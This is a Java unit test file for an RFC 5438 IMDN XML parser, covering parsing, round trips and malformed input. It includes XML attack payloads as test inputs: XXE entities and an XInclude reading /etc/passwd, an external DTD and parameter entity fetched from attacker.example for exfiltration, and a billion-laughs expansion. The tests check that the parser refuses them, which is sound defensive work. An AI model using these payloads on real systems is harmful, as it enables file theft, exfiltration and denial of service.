package org.parley.im.imdn;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.OffsetDateTime;
import java.util.stream.Stream;
import org.assertj.core.api.InstanceOfAssertFactories;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.parley.im.Fixtures;

/** {@code message/imdn+xml}: the RFC 5438 examples, round trips, bad documents, XML attacks. */
class ImdnDocumentTest {
  private static final OffsetDateTime WHEN = OffsetDateTime.parse("2008-04-04T12:16:49-05:00");
  private static final String HEAD =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><imdn xmlns=\"urn:ietf:params:xml:ns:imdn\">";
  private static final String ID_DT =
      "<message-id>34jk324j</message-id><datetime>2008-04-04T12:16:49-05:00</datetime>";
  private static final String DELIVERED =
      "<delivery-notification><status><delivered/></status></delivery-notification>";

  @Test
  void rfc5438DeliveryNotification() {
    byte[] xml = Fixtures.bytes("rfc5438-delivered.xml");
    ImdnDocument d = ImdnDocument.parse(xml);

    assertThat(d.messageId()).isEqualTo("34jk324j");
    assertThat(d.dateTime()).isEqualTo(WHEN);
    assertThat(d.recipientUri()).contains("im:bob@example.com");
    assertThat(d.originalRecipientUri()).contains("im:bob@example.com");
    assertThat(d.subject()).isEmpty();
    assertThat(d.type()).isEqualTo(NotificationType.DELIVERY);
    assertThat(d.status()).isEqualTo(ImdnStatus.DELIVERED);
    assertThat(d.toXml()).isEqualTo(xml);
    assertThat(d.toString())
        .isEqualTo("IMDN delivery-notification delivered 34jk324j from im:bob@example.com");
  }

  @Test
  void rfc5438DisplayNotification() {
    byte[] xml = Fixtures.bytes("rfc5438-displayed.xml");
    ImdnDocument d = ImdnDocument.parse(xml);

    assertThat(d.type()).isEqualTo(NotificationType.DISPLAY);
    assertThat(d.status()).isEqualTo(ImdnStatus.DISPLAYED);
    assertThat(d.toXml()).isEqualTo(xml);
  }

  @Test
  void everyStatusOfEveryNotificationRoundTrips() {
    int n = 0;
    for (NotificationType type : NotificationType.values()) {
      for (ImdnStatus status : ImdnStatus.values()) {
        if (!status.allowedIn(type)) {
          assertThatThrownBy(() -> ImdnDocument.builder("id", WHEN, type, status))
              .isInstanceOf(IllegalArgumentException.class);
          continue;
        }
        ImdnDocument d =
            ImdnDocument.builder("id-" + n++, WHEN, type, status)
                .recipientUri("sip:bob@example.com")
                .originalRecipientUri("sip:bob@example.org")
                .subject("  <b>&\"Ünïcödé\"</b> 😀\r\n\ttabs ")
                .build();
        assertThat(ImdnDocument.parse(d.toXml())).isEqualTo(d);
      }
    }
    assertThat(n).isEqualTo(11);
  }

  @Test
  void elementsOfOtherNamespacesAreIgnored() {
    String xml =
        HEAD
            + "<x:before xmlns:x=\"urn:example:x\">ignored<x:deep/></x:before>"
            + ID_DT
            + "<delivery-notification><status><delivered/><x:why xmlns:x=\"urn:example:x\"/>"
            + "</status></delivery-notification><x:after xmlns:x=\"urn:example:x\"/>"
            + "<!-- a comment --><?pi data?></imdn>";
    ImdnDocument d = ImdnDocument.parse(xml.getBytes(UTF_8));
    assertThat(d.status()).isEqualTo(ImdnStatus.DELIVERED);
  }

  @Test
  void xincludeIsNotProcessed() {
    String xml =
        HEAD
            + ID_DT
            + "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\""
            + " href=\"file:///etc/passwd\" parse=\"text\"/>"
            + DELIVERED
            + "</imdn>";
    ImdnDocument d = ImdnDocument.parse(xml.getBytes(UTF_8));
    assertThat(d.subject()).isEmpty();
    assertThat(d.toString()).doesNotContain("root");
  }

  static Stream<Arguments> badDocuments() {
    return Stream.of(
        bad("hello", ImdnRule.XML, "Content is not allowed in prolog"),
        bad(HEAD + ID_DT, ImdnRule.XML, ""),
        bad(HEAD + "<message-id>&xxe;</message-id></imdn>", ImdnRule.XML, "xxe"),
        bad("<foo xmlns=\"urn:ietf:params:xml:ns:imdn\"/>", ImdnRule.ROOT, "not imdn"),
        bad("<imdn>" + ID_DT + DELIVERED + "</imdn>", ImdnRule.ROOT, "{null}imdn"),
        bad(
            HEAD + "<datetime>2008-04-04T12:16:49Z</datetime>" + DELIVERED + "</imdn>",
            ImdnRule.ELEMENT,
            "<message-id> is missing"),
        bad(
            HEAD + "<message-id>x</message-id>" + DELIVERED + "</imdn>",
            ImdnRule.ELEMENT,
            "<datetime> is missing"),
        bad(
            HEAD
                + "<message-id> </message-id><datetime>2008-04-04T12:16:49Z</datetime>"
                + DELIVERED
                + "</imdn>",
            ImdnRule.ELEMENT,
            "empty"),
        bad(
            HEAD + ID_DT + "<datetime>2008-04-04T12:16:49Z</datetime>" + DELIVERED + "</imdn>",
            ImdnRule.ELEMENT,
            "<datetime> appears twice"),
        bad(
            HEAD
                + "<message-id>x</message-id><datetime>yesterday</datetime>"
                + DELIVERED
                + "</imdn>",
            ImdnRule.ELEMENT,
            "<datetime>"),
        bad(
            HEAD + "<message-id><b>x</b></message-id>" + DELIVERED + "</imdn>",
            ImdnRule.ELEMENT,
            "holds elements"),
        bad(
            HEAD + ID_DT + "<read/>" + DELIVERED + "</imdn>",
            ImdnRule.ELEMENT,
            "unknown element <read>"),
        bad(HEAD + ID_DT + "</imdn>", ImdnRule.NOTIFICATION, "no delivery-notification"),
        bad(
            HEAD + ID_DT + DELIVERED + DELIVERED + "</imdn>",
            ImdnRule.NOTIFICATION,
            "more than one"),
        bad(HEAD + ID_DT + "<delivery-notification/></imdn>", ImdnRule.STATUS, "no <status>"),
        bad(
            HEAD + ID_DT + "<delivery-notification><status/></delivery-notification></imdn>",
            ImdnRule.STATUS,
            "<status> is empty"),
        bad(
            HEAD
                + ID_DT
                + "<delivery-notification><status><displayed/></status>"
                + "</delivery-notification></imdn>",
            ImdnRule.STATUS,
            "not a status of delivery"),
        bad(
            HEAD
                + ID_DT
                + "<display-notification><status><stored/></status>"
                + "</display-notification></imdn>",
            ImdnRule.STATUS,
            "not a status of display"),
        bad(
            HEAD
                + ID_DT
                + "<delivery-notification><status><delivered/><failed/></status>"
                + "</delivery-notification></imdn>",
            ImdnRule.STATUS,
            "two statuses"),
        bad(
            HEAD
                + ID_DT
                + "<delivery-notification><status><delivered/></status><status>"
                + "<failed/></status></delivery-notification></imdn>",
            ImdnRule.STATUS,
            "two <status>"),
        bad(
            HEAD + ID_DT + "<delivery-notification><note/></delivery-notification></imdn>",
            ImdnRule.STATUS,
            "unknown element <note>"));
  }

  private static Arguments bad(String xml, ImdnRule rule, String detail) {
    return Arguments.of(xml, rule, detail);
  }

  @ParameterizedTest(name = "[{index}] {1} {2}")
  @MethodSource("badDocuments")
  void badDocumentsNameTheirRule(String xml, ImdnRule rule, String detail) {
    assertThatThrownBy(() -> ImdnDocument.parse(xml.getBytes(UTF_8)))
        .asInstanceOf(InstanceOfAssertFactories.type(ImdnParseException.class))
        .satisfies(
            e -> {
              assertThat(e.rule()).as(e.getMessage()).isEqualTo(rule);
              assertThat(e.detail()).as(e.getMessage()).contains(detail);
              assertThat(e.offset()).isEqualTo(-1);
            });
  }

  @Test
  void malformedXmlSaysWhere() {
    String xml = HEAD + "\n" + ID_DT + "\n<oops></imdn>";
    assertThatThrownBy(() -> ImdnDocument.parse(xml.getBytes(UTF_8)))
        .asInstanceOf(InstanceOfAssertFactories.type(ImdnParseException.class))
        .satisfies(
            e -> {
              assertThat(e.rule()).isEqualTo(ImdnRule.XML);
              assertThat(e.line()).isEqualTo(3);
              assertThat(e.column()).isPositive();
            });
  }

  @Test
  void onlyUtf8AndOnlyUpToTheBound() {
    byte[] latin1 = (HEAD + "<message-id>Ü</message-id></imdn>").getBytes(ISO_8859_1);
    assertThatThrownBy(() -> ImdnDocument.parse(latin1))
        .extracting(e -> ((ImdnParseException) e).rule())
        .isEqualTo(ImdnRule.ENCODING);
    byte[] xml = Fixtures.bytes("rfc5438-delivered.xml");
    assertThatThrownBy(() -> ImdnDocument.parse(xml, xml.length - 1))
        .extracting(e -> ((ImdnParseException) e).rule())
        .isEqualTo(ImdnRule.SIZE);
    byte[] bom = new byte[xml.length + 3];
    bom[0] = (byte) 0xEF;
    bom[1] = (byte) 0xBB;
    bom[2] = (byte) 0xBF;
    System.arraycopy(xml, 0, bom, 3, xml.length);
    assertThat(ImdnDocument.parse(bom).messageId()).isEqualTo("34jk324j");
  }

  static Stream<String> attacks() {
    String body = ID_DT + DELIVERED + "</imdn>";
    return Stream.of(
        // XXE: an external general entity reading a local file
        "<?xml version=\"1.0\"?><!DOCTYPE imdn [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
            + "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>&xxe;</message-id>"
            + "<datetime>2008-04-04T12:16:49Z</datetime>"
            + DELIVERED
            + "</imdn>",
        // an external DTD fetched over the network
        "<!DOCTYPE imdn SYSTEM \"http://attacker.example/evil.dtd\">"
            + "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\">"
            + body,
        // a parameter entity (out-of-band exfiltration)
        "<!DOCTYPE imdn [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>"
            + "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\">"
            + body,
        // billion laughs
        "<!DOCTYPE imdn [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
            + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]>"
            + "<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>&c;</message-id>"
            + "<datetime>2008-04-04T12:16:49Z</datetime>"
            + DELIVERED
            + "</imdn>");
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void documentTypeDeclarationsAreRefused(String xml) {
    assertThatThrownBy(() -> ImdnDocument.parse(xml.getBytes(UTF_8)))
        .asInstanceOf(InstanceOfAssertFactories.type(ImdnParseException.class))
        .satisfies(e -> assertThat(e.rule()).isEqualTo(ImdnRule.DOCTYPE));
  }

  @Test
  void anExternalEntityNeverReadsTheFile(@TempDir Path dir) throws Exception {
    Path secret = Files.writeString(dir.resolve("secret.txt"), "TOP-SECRET-42");
    String xml =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE imdn [\n  <!ENTITY xxe SYSTEM \""
            + secret.toUri()
            + "\">\n]>\n<imdn xmlns=\"urn:ietf:params:xml:ns:imdn\"><message-id>&xxe;</message-id>"
            + "<datetime>2008-04-04T12:16:49Z</datetime>"
            + DELIVERED
            + "</imdn>";
    assertThatThrownBy(() -> ImdnDocument.parse(xml.getBytes(UTF_8)))
        .asInstanceOf(InstanceOfAssertFactories.type(ImdnParseException.class))
        .satisfies(
            e -> {
              assertThat(e.rule()).isEqualTo(ImdnRule.DOCTYPE);
              assertThat(e.line()).isEqualTo(2);
              assertThat(e.column()).isEqualTo(1);
              assertThat(e.getMessage()).doesNotContain("TOP-SECRET");
            });
  }

  @Test
  void builderRefusesWhatXmlCannotCarry() {
    assertThatThrownBy(
            () ->
                ImdnDocument.builder("id", WHEN, NotificationType.DELIVERY, ImdnStatus.DELIVERED)
                    .subject("bell \u0007"))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(
            () ->
                ImdnDocument.builder(" id", WHEN, NotificationType.DELIVERY, ImdnStatus.DELIVERED))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(
            () -> ImdnDocument.builder("", WHEN, NotificationType.DELIVERY, ImdnStatus.DELIVERED))
        .isInstanceOf(IllegalArgumentException.class);
  }
}
